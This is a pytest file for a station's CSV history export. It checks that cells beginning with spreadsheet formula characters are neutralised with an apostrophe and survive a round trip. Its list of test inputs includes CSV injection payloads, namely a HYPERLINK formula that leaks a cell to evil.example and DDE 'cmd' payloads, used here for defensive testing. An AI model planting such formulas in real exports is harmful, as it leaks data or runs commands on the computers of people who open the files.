"""Issue 19, item 3: no CSV the station writes carries a formula a spreadsheet would run.

Real SQLite history files, the real `station history --format csv` command; hostile text in
the verdict reason, the defect class and the station ID; numbers (negative ones included)
stay numbers; reading the export back gives the stored text."""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import io

import pytest
from history_testkit import make_inspection
from sqlalchemy import select
from sqlalchemy.orm import Session

from station.alarms import AlarmBoard
from station.commands import history as history_cmd
from station.config import ArchiveConfig, DatabaseConfig
from station.db.engine import make_engine
from station.db.export import FORMULA_STARTS, JSON_COLUMNS, csv_cell, flatten, read_csv, restore_text, write_csv
from station.db.models import InspectionRow
from station.db.queries import EXPORT_COLUMNS
from station.db.writer import HistoryWriter

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
HOSTILE = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    cell = csv_cell(text)
    assert cell == "'" + text
    assert restore_text(cell) == text


def test_a_dict_is_no_cell():
    with pytest.raises(TypeError, match="flatten"):
        csv_cell({"b": -1, "a": 2})


@pytest.mark.parametrize("value,cell", [
    (-3, -3),  # a negative number in a numeric column is a number, not a formula
    (-0.25, -0.25),
    (0, 0),
    (12, 12),
    (None, ""),
    ("scratch", "scratch"),
    ("it's fine", "it's fine"),
    ("'=already quoted", "''=already quoted"),  # the data's own apostrophe survives the round trip
    ("-5", "'-5"),  # text is text, even when it looks like a number
    (float("-inf"), "'-inf"),  # not a finite number: written as (neutralised) text
    (True, "True"),
    (dt.datetime(2026, 12, 4, 8, 0, tzinfo=dt.timezone.utc), "2026-12-04T08:00:00+00:00"),
])
def test_cells_by_type(value, cell):
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert restore_text(cell) == value


def test_negative_numbers_are_written_as_numbers_and_read_back():
    row = {c: None for c in EXPORT_COLUMNS} | {
        "id": 1, "station_id": "-st", "sequence": -7, "part_id": -42, "triggered_at": dt.datetime(2026, 1, 1, tzinfo=dt.timezone.utc),
        "recipe_name": "r", "recipe_version": 1, "outcome": "reject", "reason": HYPERLINK, "plc_code": 2,
        "defect_count": 1, "cameras": "top", "recipe_hash": "ab", "model_hashes": {}, "scores": {"x": -1.5},
        "thresholds": {}, "timings_ms": {}, "images_dropped": 0, "defects": [],
    }
    buf = io.StringIO()
    write_csv(lambda: [row], buf, zone=dt.timezone.utc)
    (header, cells) = list(csv.reader(io.StringIO(buf.getvalue().removeprefix("\ufeff"))))
    by_name = dict(zip(header, cells))
    assert by_name["sequence"] == "-7" and by_name["part_id"] == "-42"  # numbers, as numbers
    assert by_name["station_id"] == "'-st" and by_name["reason"] == "'" + HYPERLINK
    assert by_name["scores.x"] == "-1.5"
    (back,) = read_csv(io.StringIO(buf.getvalue()))
    assert {c: back[c] for c in EXPORT_COLUMNS} == {c: row[c] for c in EXPORT_COLUMNS}


@pytest.fixture
def hostile_history(tmp_path):
    url = f"sqlite:///{tmp_path / 'h.db'}"
    w = HistoryWriter(DatabaseConfig(url=url), ArchiveConfig(dir=tmp_path / "img"), AlarmBoard(), "=station")
    w.start()
    for i in range(len(HOSTILE)):
        w.publish(make_inspection(i, reject=True, reason=HOSTILE[i], classes=(HOSTILE[(i + 1) % len(HOSTILE)],)))
    w.publish(make_inspection(len(HOSTILE), reject=False))
    assert w.flush(10)
    w.close()
    return url


def test_station_history_csv_exports_formulas_as_text(hostile_history, tmp_path, capsys):
    target = tmp_path / "export.csv"
    parser = argparse.ArgumentParser(prog="station")
    history_cmd.register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(["history", "--db", hostile_history, "--format", "csv", "--limit", "0", "-o", str(target)])
    assert args.func(args) == 0
    with open(target, encoding="utf-8", newline="") as f:  # a carriage return inside a cell stays one
        text = f.read()
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE) + 1
    reasons = [r[header.index("reason")] for r in body]
    assert "'" + HYPERLINK in reasons
    for row in body:
        for name, cell in zip(header, row):
            if cell.startswith(FORMULA_STARTS):  # only a number may start like a formula
                float(cell)
    assert {r[header.index("station_id")] for r in body} == {"'=station"}
    # and what comes back is what was stored
    engine = make_engine(hostile_history)
    with Session(engine) as s:
        stored = s.scalars(select(InspectionRow).order_by(InspectionRow.id.desc())).all()
        assert [{c: r[c] for c in EXPORT_COLUMNS} for r in read_csv(io.StringIO(text))] == \
            [{c: flatten(getattr(r, c)) if c in JSON_COLUMNS else getattr(r, c) for c in EXPORT_COLUMNS} for r in stored]
    engine.dispose()
    print(f"exported cell: {reasons[-1]}")
